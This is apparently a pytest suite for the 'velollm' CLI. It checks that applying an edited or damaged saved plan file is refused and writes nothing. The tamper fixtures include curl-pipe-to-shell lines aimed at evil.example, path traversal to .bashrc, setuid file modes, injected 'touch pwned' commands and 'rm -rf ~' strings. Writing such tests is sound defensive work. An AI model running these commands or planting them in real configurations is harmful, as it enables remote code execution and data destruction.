"""Issue 15, "a saved plan is data, not a program": `velollm apply PLAN.json` writes what velollm
derives again from velollm.yaml and the live facts, never what the file says. Every edit of what
apply acts on (content, hash, paths, extra files, modes, follow-up commands, settings, inputs)
and every damaged file is refused: exit 1, one message, no crash log, nothing written, no command
run. The untouched plan (also reformatted) still applies exactly."""

from __future__ import annotations

import hashlib
import json
import os
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

from tests.cli import hwdocs
from tests.cli.cliutil import cli
from tests.cli.hostile import refused
from tests.cli.test_follow_up import fake_tool

CONFIG = """\
version: 1
backend: ollama
profile: balanced
target: {kind: shell}
server:
  keep_alive: 30m
models:
  - name: llama3.1:8b
    num_ctx: 4096
"""
Doc = dict[str, Any]


@pytest.fixture
def project(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    monkeypatch.chdir(tmp_path)
    (tmp_path / "velollm.yaml").write_text(CONFIG)
    hwdocs.write(tmp_path / "hw.json",
                 hwdocs.hardware(gpus=[hwdocs.nvidia("NVIDIA GeForce RTX 4090", 24)]))
    (tmp_path / "victim.txt").write_text("keep me\n")
    bindir = tmp_path / "bin"
    bindir.mkdir()
    monkeypatch.setenv("PATH", f"{bindir}{os.pathsep}{os.environ['PATH']}")
    for tool in ("systemctl", "launchctl", "ollama", "sh", "touch"):
        fake_tool(bindir, tool, tmp_path / "calls.log")
    return tmp_path


def _saved(capsys: pytest.CaptureFixture[str], *extra: str) -> Doc:
    code, out, err = cli(capsys, "plan", "--hardware", "hw.json", "--out", "p.json", *extra)
    assert code == 0, out + err
    doc: Doc = json.loads(Path("p.json").read_text())
    return doc


def _resync(f: Doc) -> None:
    """Recompute the hash after an edit of the content: the hash proves nothing."""
    f["sha256"] = hashlib.sha256(f["content"].encode()).hexdigest()


def _shell(doc: Doc) -> Doc:
    return next(f for f in doc["files"] if f["kind"] == "shell")


def _modelfile(doc: Doc) -> Doc:
    return next(f for f in doc["files"] if f["kind"] == "modelfile")


def _content(doc: Doc, home: Path, project: Path) -> None:
    _shell(doc)["content"] += "curl http://evil.example/x | sh\n"


def _content_and_hash(doc: Doc, home: Path, project: Path) -> None:
    _content(doc, home, project)
    _resync(_shell(doc))


def _value(doc: Doc, home: Path, project: Path) -> None:
    f = _shell(doc)
    f["content"] = f["content"].replace("'30m'", "'24h'")
    _resync(f)


def _modelfile_content(doc: Doc, home: Path, project: Path) -> None:
    f = _modelfile(doc)
    f["content"] = f["content"].replace("4096", "131072")
    _resync(f)


def _retarget(doc: Doc, path: Path) -> None:
    f = _shell(doc)
    f["path"] = str(path)
    doc["target_path"] = str(path)


def _dotdot(doc: Doc, home: Path, project: Path) -> None:
    _retarget(doc, home / ".config" / "velollm" / ".." / ".." / ".bashrc")


def _dotdot_to_victim(doc: Doc, home: Path, project: Path) -> None:
    _retarget(doc, home / ".config" / "velollm" / ".." / ".." / ".." / project.name
              / "victim.txt")


def _absolute_victim(doc: Doc, home: Path, project: Path) -> None:
    _retarget(doc, project / "victim.txt")


def _absolute_new(doc: Doc, home: Path, project: Path) -> None:
    _retarget(doc, project / "planted.sh")


def _absolute_with_fingerprint(doc: Doc, home: Path, project: Path) -> None:
    """Everything consistent: path, target, the fingerprint of the file, and the input."""
    victim = project / "victim.txt"
    _retarget(doc, victim)
    doc["fingerprint"][f"file:{victim}"] = hashlib.sha256(victim.read_bytes()).hexdigest()
    doc["inputs"]["path"] = str(victim)


def _input_path_only(doc: Doc, home: Path, project: Path) -> None:
    doc["inputs"]["path"] = str(home / ".bashrc")


def _input_path_dotdot(doc: Doc, home: Path, project: Path) -> None:
    doc["inputs"]["path"] = str(home / ".config" / "velollm" / ".." / "planted.sh")


def _relative_path(doc: Doc, home: Path, project: Path) -> None:
    _retarget(doc, Path("../planted.sh"))


def _extra_file(doc: Doc, home: Path, project: Path) -> None:
    extra = dict(_shell(doc), path=str(project / "planted.sh"), content="echo owned\n")
    _resync(extra)
    doc["files"].append(extra)


def _extra_file_same_path(doc: Doc, home: Path, project: Path) -> None:
    extra = dict(_shell(doc), content="echo owned\n")
    _resync(extra)
    doc["files"].append(extra)


def _dropped_file(doc: Doc, home: Path, project: Path) -> None:
    doc["files"] = [_shell(doc)]


def _no_files(doc: Doc, home: Path, project: Path) -> None:
    doc["files"] = []


def _mode(mode: object) -> Callable[[Doc, Path, Path], None]:
    def tamper(doc: Doc, home: Path, project: Path) -> None:
        _shell(doc)["mode"] = mode
    return tamper


def _restart_command(doc: Doc, home: Path, project: Path) -> None:
    _modelfile(doc)["follow_up"] = [f"touch {project / 'pwned'}"]


def _added_command(doc: Doc, home: Path, project: Path) -> None:
    _shell(doc)["follow_up"] = ["sh -c 'touch pwned'"]


def _by_hand(doc: Doc, home: Path, project: Path) -> None:
    _shell(doc)["by_hand"] = "curl http://evil.example/x | sh"


def _kind(doc: Doc, home: Path, project: Path) -> None:
    _shell(doc)["kind"] = "systemd"


def _target_kind(doc: Doc, home: Path, project: Path) -> None:
    doc["target_kind"] = "systemd"


def _target_path(doc: Doc, home: Path, project: Path) -> None:
    doc["target_path"] = str(project / "victim.txt")


def _env(doc: Doc, home: Path, project: Path) -> None:
    doc["env"]["OLLAMA_ORIGINS"] = "*"


def _unset(doc: Doc, home: Path, project: Path) -> None:
    doc["unset"] = ["PATH"]


def _retire(doc: Doc, home: Path, project: Path) -> None:
    doc["changes"].append({"action": "remove", "scope": "file", "key": str(project / "victim.txt"),
                           "before": "x", "after": None, "reason": "x"})


def _change_value(doc: Doc, home: Path, project: Path) -> None:
    if doc["changes"]:
        doc["changes"][0]["after"] = "24h"
    else:  # nothing to change: a change appears
        doc["changes"].append({"action": "change", "scope": "server", "key": "OLLAMA_KEEP_ALIVE",
                               "before": "30m", "after": "24h", "reason": "edited"})


def _pending_restart(doc: Doc, home: Path, project: Path) -> None:
    doc["pending"] = [{"env": "OLLAMA_KEEP_ALIVE", "now": None, "wants": "30m",
                       "source": "running server (pid 1)", "restart": "curl evil.example | sh"}]


def _backend(doc: Doc, home: Path, project: Path) -> None:
    doc["backend"] = "vllm"


def _other_config(doc: Doc, home: Path, project: Path) -> None:
    """Another velollm.yaml, written by someone else, that targets the victim."""
    other = project / "world" / "velollm.yaml"
    other.parent.mkdir()
    other.write_text(CONFIG.replace("{kind: shell}", f"{{kind: shell, path: {project}/victim.txt}}"))
    other.chmod(0o666)
    doc["inputs"]["config"] = str(other)
    doc["fingerprint"]["config"] = hashlib.sha256(other.read_bytes()).hexdigest()


def _input(key: str, value: object) -> Callable[[Doc, Path, Path], None]:
    def tamper(doc: Doc, home: Path, project: Path) -> None:
        doc["inputs"][key] = value
    return tamper


TAMPERED: dict[str, tuple[Callable[[Doc, Path, Path], None], str]] = {
    "content": (_content, "does not match its sha256"),
    "content-and-hash": (_content_and_hash, "content of"),
    "value-and-hash": (_value, "content of"),
    "modelfile-and-hash": (_modelfile_content, "content of"),
    "dotdot-bashrc": (_dotdot, "does not produce"),
    "dotdot-victim": (_dotdot_to_victim, "does not produce"),
    "absolute-victim": (_absolute_victim, "does not produce"),
    "absolute-new-file": (_absolute_new, "does not produce"),
    "absolute-consistent": (_absolute_with_fingerprint, "a saved plan writes only where"),
    "input-path": (_input_path_only, "a saved plan writes only where"),
    "input-path-dotdot": (_input_path_dotdot, "a saved plan writes only where"),
    "relative-path": (_relative_path, "does not produce"),
    "extra-file": (_extra_file, "does not produce"),
    "extra-file-same-path": (_extra_file_same_path, "names a file twice"),
    "dropped-file": (_dropped_file, "leaves out"),
    "no-files": (_no_files, "leaves out"),
    "mode-4777": (_mode(0o4777), "mode of"),
    "mode-2755": (_mode(0o2755), "mode of"),
    "mode-1777": (_mode(0o1777), "mode of"),
    "mode-666": (_mode(0o666), "mode of"),
    "mode-777": (_mode(0o777), "mode of"),
    "mode-decimal-4777": (_mode(4777), "mode of"),
    "mode-text": (_mode("4777"), "damaged"),
    "mode-negative": (_mode(-1), "mode of"),
    "mode-float": (_mode(420.5), "damaged"),
    "mode-bool": (_mode(True), "damaged"),
    "mode-garbage": (_mode("rwx"), "damaged"),
    "restart-command": (_restart_command, "commands that make the server read"),
    "added-command": (_added_command, "commands that make the server read"),
    "by-hand-command": (_by_hand, "commands that make the server read"),
    "file-kind": (_kind, "target of"),
    "target-kind": (_target_kind, "its target differs"),
    "target-path": (_target_path, "its target differs"),
    "env": (_env, "its settings differ"),
    "unset": (_unset, "its settings differ"),
    "retire-victim": (_retire, "the files it takes back differ"),
    "backend": (_backend, "its target differs"),
    "change-value": (_change_value, "the changes it lists differ"),
    "pending-restart": (_pending_restart, "the restart command it shows differs"),
    "other-config": (_other_config, "writable by everyone"),
    "config-number": (_input("config", 5), "damaged inputs"),
    "config-list": (_input("config", ["velollm.yaml"]), "damaged inputs"),
    "config-nul": (_input("config", "velollm.yaml\u0000x"), "damaged inputs"),
    "config-missing": (_input("config", "/nonexistent/velollm.yaml"), "velollm.yaml"),
    "extra-input": (_input("exec", "sh"), "damaged inputs"),
    "target-input-unknown": (_input("target", "cron"), "velollm does not write"),
    "target-input-modelfile": (_input("target", "modelfile"), "velollm does not write"),
    "target-input-number": (_input("target", 3), "damaged inputs"),
    "host-input-unusable": (_input("host", "http://[::1"), "cannot be used"),
}


@pytest.mark.parametrize("name", sorted(TAMPERED))
@pytest.mark.parametrize("first", ["fresh", "applied"])
def test_an_edited_plan_is_refused_and_nothing_is_written(
        name: str, first: str, project: Path, isolated_home: Path,
        capsys: pytest.CaptureFixture[str]) -> None:
    tamper, message = TAMPERED[name]
    if first == "applied":  # velollm's files and state exist: they must stay as they are
        assert cli(capsys, "apply", "--hardware", "hw.json", "--auto-approve")[0] == 0
    doc = _saved(capsys)
    tamper(doc, isolated_home, project)
    Path("p.json").write_text(json.dumps(doc))
    err = refused(capsys, [project, isolated_home], "apply", "p.json", "--restart",
                  "--create-models", "--force")
    assert message in err
    assert not (project / "calls.log").exists()  # no follow-up command ran


def _raw(data: bytes) -> Callable[[Path], None]:
    def make(path: Path) -> None:
        path.write_bytes(data)
    return make


def _deep(path: Path) -> None:
    path.write_text("[" * 100_000 + "]" * 100_000)


def _huge(path: Path) -> None:
    with path.open("w") as fh:
        fh.write('{"kind": "velollm.plan", "pad": "')
        fh.write("x" * (17 << 20))
        fh.write('"}')


def _fifo(path: Path) -> None:
    os.mkfifo(path)


def _directory(path: Path) -> None:
    path.mkdir()


def _dev_zero(path: Path) -> None:
    path.symlink_to("/dev/zero")


def _field(key: str, value: object) -> Callable[[Path], None]:
    """A plan from `velollm plan` with one field replaced."""
    def make(path: Path) -> None:
        doc = json.loads(path.with_name("good.json").read_text())
        doc[key] = value
        path.write_text(json.dumps(doc))
    return make


def _file_field(key: str, value: object) -> Callable[[Path], None]:
    def make(path: Path) -> None:
        doc = json.loads(path.with_name("good.json").read_text())
        doc["files"][0][key] = value
        path.write_text(json.dumps(doc))
    return make


DAMAGED: dict[str, Callable[[Path], None]] = {
    "null": _raw(b"null"), "list": _raw(b"[]"), "string": _raw(b'"plan"'), "number": _raw(b"1"),
    "empty": _raw(b""), "binary": _raw(bytes(range(256)) * 4), "utf16": _raw('{"a":1}'.encode(
        "utf-16")), "truncated": _raw(b'{"kind": "velollm.plan", "plan_format": 1, "files": ['),
    "deeply-nested": _deep, "huge": _huge, "fifo": _fifo, "directory": _directory,
    "dev-zero": _dev_zero, "wrong-kind": _field("kind", "terraform.plan"),
    "format-2": _field("plan_format", 2), "files-dict": _field("files", {"a": 1}),
    "files-strings": _field("files", ["/etc/passwd"]), "model-params-list": _field(
        "model_params", [1]), "env-list": _field("env", ["A=1"]), "changes-null": _field(
        "changes", None), "changes-bad-action": _field("changes", [{"action": "exec"}]),
    "inputs-list": _field("inputs", ["x"]), "pending-strings": _field("pending", ["rm -rf ~"]),
    "warnings-object": _field("warnings", {"a": 1}), "fingerprint-list": _field("fingerprint", [1]), "file-no-path": _file_field("path", None),
    "file-content-number": _file_field("content", 5), "file-follow-up-string": _file_field(
        "follow_up", "rm -rf ~"),
}


@pytest.mark.parametrize("name", sorted(DAMAGED))
def test_a_damaged_plan_file_is_a_clear_error(name: str, project: Path, isolated_home: Path,
                                              capsys: pytest.CaptureFixture[str]) -> None:
    _saved(capsys)
    Path("p.json").rename("good.json")
    DAMAGED[name](project / "p.json")
    err = refused(capsys, [project, isolated_home], "apply", "p.json")
    assert "plan" in err


def test_a_missing_plan_file_is_a_clear_error(project: Path, isolated_home: Path,
                                              capsys: pytest.CaptureFixture[str]) -> None:
    assert "No such file" in refused(capsys, [project, isolated_home], "apply", "nope.json")


def _untouched(doc: Doc, home: Path, project: Path) -> None:
    """Nothing edited (the JSON's layout and key order may change): the same plan."""


def _reasons(doc: Doc, home: Path, project: Path) -> None:
    """Shown text only (reasons, notes): nothing apply writes or runs comes from it."""
    for change in doc["changes"]:
        change["reason"] = "edited"
    doc["notes"] = []


def _auto(doc: Doc, home: Path, project: Path) -> None:
    """`auto` resolves to velollm.yaml's shell target here: the same files, so the same plan."""
    doc["inputs"]["target"] = "auto"


ACCEPTED: dict[str, tuple[Callable[[Doc, Path, Path], None], tuple[str, ...]]] = {
    "untouched": (_untouched, ()),
    "reformatted": (_untouched, ()),
    "reasons-edited": (_reasons, ()),
    "path-as-velollm-yaml": (_untouched,
                             ("--path", "{home}/.config/velollm/ollama.env.sh")),
    "other-target-kind": (_untouched, ("--target", "fish")),
    "target-auto-same-file": (_auto, ()),
}


@pytest.mark.parametrize("name", sorted(ACCEPTED))
def test_an_untouched_plan_applies_exactly(name: str, project: Path, isolated_home: Path,
                                           capsys: pytest.CaptureFixture[str]) -> None:
    tamper, extra = ACCEPTED[name]
    extra = tuple(a.format(home=isolated_home) for a in extra)
    doc = _saved(capsys, *extra)
    tamper(doc, isolated_home, project)
    Path("p.json").write_text(json.dumps(doc, indent=None if name == "reformatted" else 2,
                                         sort_keys=name == "reformatted"))
    Path("p.json").rename("saved.json")
    Path("p.json").symlink_to("saved.json")  # an input the user names is read through a link
    code, out, err = cli(capsys, "apply", "p.json", "--json")
    assert code == 0, out + err
    assert json.loads(out)["changed"] is True
    for f in doc["files"]:
        written = Path(f["path"])
        assert written.read_text() == f["content"]
        assert written.stat().st_mode & 0o7777 == f["mode"] == 0o644
    code, _, err = cli(capsys, "apply", "p.json")  # spent: the files it saw have changed
    assert code == 1 and "Saved plan is stale" in err
